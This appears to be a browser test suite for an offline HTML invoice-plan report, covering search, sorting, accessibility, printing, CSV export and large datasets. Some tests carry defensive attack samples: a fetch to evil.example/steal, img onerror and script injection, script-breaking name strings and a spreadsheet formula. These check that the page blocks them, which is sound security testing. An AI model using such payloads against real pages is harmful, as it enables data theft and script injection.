import { beforeAll, describe, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { PIECES, poison } from '../properties/hostile-texts.ts';
import { BILLS, SAMPLE_PLAN } from '../unit/render/sample-plan.ts';
import { findBarriers, HAS_BROWSER, openPage, printedPages, readDownload } from './open-page.ts';
import { planOfBills, renderPlanPage } from './plans.ts';

/** Numbers of the rows that are drawn, in order. */
async function numbersIn(page: Page): Promise<readonly string[]> {
  return await page
    .locator('.scroller button.row')
    .evaluateAll((buttons) => buttons.map((button) => button.firstChild?.textContent ?? ''));
}

async function sums(page: Page): Promise<string> {
  return (await page.locator('.sums').innerText()).replaceAll(/\s+/g, ' ');
}

describe.runIf(HAS_BROWSER)('the page of a plan', () => {
  const html = renderPlanPage(SAMPLE_PLAN);

  test('opens from disk, asks for nothing, and says the money first', async () => {
    const { page, requests, complaints } = await openPage(html);
    expect(await page.locator('h1').innerText()).toBe('Northwind Robotics');
    expect(await page.locator('.verdict').innerText()).toMatch(
      /^2 new invoices \(JPY 120,400 and USD 1,204\.50\), 1 changed/,
    );
    const [first] = await page.locator('main > section').allInnerTexts();
    expect(first).toContain('What this plan means in money');
    expect([requests, complaints]).toEqual([[], []]);
  });

  test('shows what its policy forbids, and that it holds', async () => {
    const { page, requests } = await openPage(html);
    const tried = await page.evaluate(async () => {
      const attempts: string[] = [];
      const note = async (name: string, attempt: () => unknown): Promise<void> => {
        try {
          await attempt();
          attempts.push(`${name} went through`);
        } catch (error) {
          attempts.push(`${name}: ${error instanceof Error ? error.name : 'refused'}`);
        }
      };
      await note('fetch', () => fetch('https://evil.example/steal'));
      await note('markup', () => {
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src="https://evil.example/x.png" onerror="window.hit = 1">',
        );
      });
      const script = document.createElement('script');
      await note('script', () => {
        script.textContent = 'window.hit = 1';
        document.body.append(script);
      });
      const image = document.createElement('img');
      image.src = 'https://evil.example/y.png';
      document.body.append(image);
      await note('handler', () => image.setAttribute('onerror', 'window.hit = 1'));
      await new Promise((resolve) => setTimeout(resolve, 100));
      return [...attempts, `hit ${String((window as unknown as { hit?: number }).hit)}`];
    });
    expect(tried).toEqual([
      'fetch: TypeError',
      'markup: TypeError',
      'script: TypeError',
      'handler: TypeError',
      'hit undefined',
    ]);
    expect(requests).toEqual([]);
  });

  test('draws each unusual document, and a changed one beside what it was', async () => {
    const { page } = await openPage(html);
    const cards = await page.locator('.card').allInnerTexts();
    expect(cards.join('\n')).toContain('New customer: this plan makes it in QuickBooks.');
    expect(cards.join('\n')).toContain('18 Anvil Road');
    expect(cards.join('\n')).toContain('Credit memo: takes back USD 75.25.');
    const [before, after] = await page.locator('.change .sheet').allInnerTexts();
    expect([before, after].map((text) => /Total USD\s+(\S+)/.exec(text ?? '')?.[1])).toEqual(['3,000.00', '3,105.70']);
  });

  test('searches, filters and sums, with the view in the address', async () => {
    const { page, url } = await openPage(html);
    await page.getByLabel('Search').fill('hooli');
    expect(await numbersIn(page)).toEqual(['M3-100490']);
    expect(await sums(page)).toContain('USD 1 -75.25');
    expect(page.url()).toBe(`${url}#search=hooli`);
    await page.getByRole('button', { name: 'Show all' }).click();
    await page.getByLabel(/^What happens/).selectOption('blocked');
    expect(await numbersIn(page)).toEqual(['M3-100486', 'M3-100398']);
    await page.getByLabel('Amount from').fill('100');
    await page.getByLabel('Amount from').press('Enter');
    expect(await numbersIn(page)).toEqual(['M3-100398']);
    expect(page.url()).toBe(`${url}#class=blocked&least=100`);
  });

  test('begins with the view that the address says', async () => {
    const { page } = await openPage(html, { fragment: `#currency=USD&sort=-amount&open=${BILLS.globex}` });
    expect((await numbersIn(page)).slice(0, 2)).toEqual(['M3-100398', 'M3-100455']);
    expect(await page.locator('tr.detail .sheet').count()).toBe(2);
  });

  test('sorts by a click, and tells it to a screen reader', async () => {
    const { page } = await openPage(html);
    const head = page.getByRole('columnheader', { name: 'Amount' }).last();
    await head.getByRole('button').click();
    expect(await head.getAttribute('aria-sort')).toBe('ascending');
    expect((await numbersIn(page))[0]).toBe('M3-100490');
    await head.getByRole('button').click();
    expect(await head.getAttribute('aria-sort')).toBe('descending');
    expect((await numbersIn(page))[0]).toBe('M3-100471');
  });

  test('is used by keyboard alone: search, move, open, close', async () => {
    const { page } = await openPage(html);
    await page.getByLabel('Search').focus();
    await page.keyboard.type('M3-1004');
    for (let press = 0; press < 30; press += 1) {
      await page.keyboard.press('Tab');
      if (await page.locator('.scroller').evaluate((element) => element === document.activeElement)) break;
    }
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    const focused = page.locator('button.row:focus');
    expect(await focused.innerText()).toContain('M3-100455');
    await page.keyboard.press('Enter');
    expect(await focused.getAttribute('aria-expanded')).toBe('true');
    expect(await page.locator('tr.detail').innerText()).toContain('as it will be');
    await page.keyboard.press('Enter');
    expect(await page.locator('tr.detail').count()).toBe(0);
    await page.keyboard.press('End');
    expect(await focused.innerText()).toBe((await numbersIn(page)).at(-1));
  });

  test('exports what the filters leave, with no formula in it', async () => {
    const plan = {
      ...SAMPLE_PLAN,
      bills: SAMPLE_PLAN.bills.map((bill) => ({ ...bill, accountName: '=HYPERLINK("x")' })),
    };
    const { page, complaints } = await openPage(renderPlanPage(plan), { fragment: '#class=blocked' });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export 2 as CSV' }).click(),
    ]);
    const text = await readDownload(download);
    expect(text.startsWith('\ufeffnumber,customer,account')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(4);
    expect(text.split('\r\n')[1]).toContain(`M3-100486,"'=HYPERLINK(""x"")",UMBRELLA`);
    expect(complaints).toEqual([]);
  });

  describe.each([
    ['a desk', {}],
    ['a desk in the dark', { colorScheme: 'dark' }],
    ['a phone', { viewport: { width: 390, height: 844 } }],
  ] as const)('on %s', (_name, options) => {
    test('has no barrier that axe-core finds, with a row open', async () => {
      const { page } = await openPage(html, { ...options, fragment: `#open=${BILLS.globex}` });
      expect(await page.locator('tr.detail').count()).toBe(1);
      expect(await findBarriers(page)).toEqual([]);
    });

    test('needs no scrolling sideways', async () => {
      const { page } = await openPage(html, options);
      const [wide, room] = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
      expect(wide).toBeLessThanOrEqual(room ?? 0);
    });
  });

  test.each(['A4', 'Letter'] as const)(
    'prints to %s: money first, then every bill under repeated titles',
    async (format) => {
      const { page } = await openPage(renderPlanPage(planOfBills(120)));
      const pages = await printedPages(page, format);
      const text = pages.join('\n');
      expect(pages[0]).toContain('What this plan means in money');
      expect(text.match(/B-0000\d\d|B-0001\d\d/g)?.length).toBeGreaterThanOrEqual(120);
      const withRows = pages.filter((one) => (one.match(/\bB-000\d{3}\b/g) ?? []).length > 20);
      expect(withRows.length).toBeGreaterThan(1);
      for (const one of withRows) expect(one).toMatch(/Number\s+Customer/);
      expect(text).not.toContain('Export');
    },
  );

  test('says on paper how many rows are left out', async () => {
    const { page } = await openPage(renderPlanPage(planOfBills(2100)));
    await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
    expect(await page.locator('#bills .note').innerText()).toContain('The first 2,000 of 2,100 rows are printed');
    expect(await page.locator('table.bills tbody tr').count()).toBe(2000);
    await page.evaluate(() => dispatchEvent(new Event('afterprint')));
    expect(await page.locator('table.bills tbody tr').count()).toBeLessThan(100);
  });

  test('shows a plan of nothing', async () => {
    const { page, complaints } = await openPage(renderPlanPage(planOfBills(0)));
    expect(await page.locator('.empty').innerText()).toBe('No bill is like this.');
    expect([await findBarriers(page), complaints]).toEqual([[], []]);
  });
});

describe.runIf(HAS_BROWSER)('names that want to do harm', () => {
  test.each([PIECES.slice(0, 22), PIECES.slice(22, 44), PIECES.slice(44)])(
    'do nothing in the page (%#)',
    async (...pieces) => {
      let next = 0;
      const text = (): string => `${pieces[next++ % pieces.length] ?? ''}</script><script>window.hit=1</script>`;
      const { page, requests, complaints } = await openPage(renderPlanPage(poison(SAMPLE_PLAN, text)));
      expect(await page.locator('h1').innerText()).toContain('<script>window.hit=1</script>');
      expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined();
      expect(await page.locator('#page script, #page img, #page iframe').count()).toBe(0);
      const links = await page
        .locator('#page a')
        .evaluateAll((found) => found.map((link) => (link as HTMLAnchorElement).href));
      expect(links.filter((link) => !/^https:\/\/(?:sandbox\.)?qbo\.intuit\.com\//.test(link))).toEqual([]);
      await page.locator('button.row').first().click();
      const shown = (await page.locator('#page').innerText()).replaceAll('\n', ' ').replaceAll('\t', ' ');
      expect(shown).not.toMatch(/(?![\ufe0e\ufe0f])[\p{Cc}\p{Cf}\p{Cs}\p{Default_Ignorable_Code_Point}\p{Zl}\p{Zp}]/u);
      expect([requests, complaints]).toEqual([[], []]);
    },
  );
});

describe.runIf(HAS_BROWSER)('50,000 bills', () => {
  let page: Page;
  beforeAll(async () => {
    ({ page } = await openPage(renderPlanPage(planOfBills(50_000))));
    // Fifty megabytes on a small machine that does other things too.
  }, 240_000);

  test('are drawn as far as they are seen, and told whole to a screen reader', async () => {
    expect(await page.locator('button.row').count()).toBeLessThan(100);
    expect(await page.locator('.scroller table').getAttribute('aria-rowcount')).toBe('50001');
  });

  test('scroll without gaps to the last', async () => {
    const blanks = await page.evaluate(async () => {
      const scroller = document.querySelector('.scroller');
      if (scroller === null) return -1;
      scroller.scrollIntoView();
      const frame = (): Promise<number> => new Promise((resolve) => requestAnimationFrame(resolve));
      const box = scroller.getBoundingClientRect();
      let missing = 0;
      for (let step = 1; step <= 20; step += 1) {
        scroller.scrollTop = (scroller.scrollHeight / 20) * step;
        await frame();
        await frame();
        const at = document.elementFromPoint(box.left + 300, box.top + box.height / 2);
        if (at?.closest('tbody[data-index]') === null) missing += 1;
      }
      return missing;
    });
    expect(blanks).toBe(0);
    expect((await numbersIn(page)).at(-1)).toBe('B-049999');
  });

  test('are searched and summed exactly', async () => {
    await page.getByLabel(/^What happens/).selectOption('blocked');
    expect(await sums(page)).toContain('5,000 of 50,000 bills');
    await page.getByLabel('Currency').selectOption('JPY');
    // 1,009 + 1,039 … of every thirtieth bill from the thirtieth on.
    let total = 0n;
    for (let index = 0; index < 50_000; index += 1)
      if (index % 10 === 9 && index % 3 === 2) total += BigInt(1000 + index);
    expect(await sums(page)).toContain(`JPY 1,666 ${total.toLocaleString('en-US')}`);
  });
});
